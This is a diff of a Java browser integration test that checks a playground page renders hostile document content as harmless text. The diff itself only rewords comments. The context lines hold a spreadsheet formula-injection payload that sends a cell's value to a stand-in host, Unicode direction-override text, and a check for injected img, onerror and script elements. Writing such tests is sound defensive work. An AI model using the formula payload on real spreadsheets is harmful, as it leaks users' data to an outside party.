@@ -20,7 +20,7 @@ import dev.newsgraph.importing.GraphImport;
 import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThat;
 
-/** What documents say is text to the page, whatever it looks like. */
+/** The page shows the content of documents as text, even if it contains markup. */
 @BrowserTest
 class PlaygroundHostileIT {
 
@@ -28,10 +28,10 @@ class PlaygroundHostileIT {
 
 	private static final String FORMULA = "=HYPERLINK(\"https://tests.example/?\"&A1)";
 
-	/** As long as a document may have it. */
+	/** The maximum length in a document. */
 	private static final String LONG = "Longest ".repeat(500).strip();
 
-	/** What the page gets instead. */
+	/** A longer text that the page receives in the response. */
 	private static final String LONGER = "Longest ".repeat(1_250).strip();
 
 	private static final String ARABIC = "\u202Eمرحبا بالعالم 👩‍👩‍👧‍👦 \u200Fשלום";
@@ -158,7 +158,8 @@ class PlaygroundHostileIT {
 	}
 
 	/**
-	 * No element came of a text, nothing of it was run, and the next query is answered.
+	 * Checks that no element was created from a text, that no script has run, and that
+	 * the next query is answered.
 	 */
 	private void assertHarmless(PlaygroundUser user) {
 		assertThat(user.tab().locator("img[src=x], [onerror], [onload], script:not([src])")).hasCount(0);
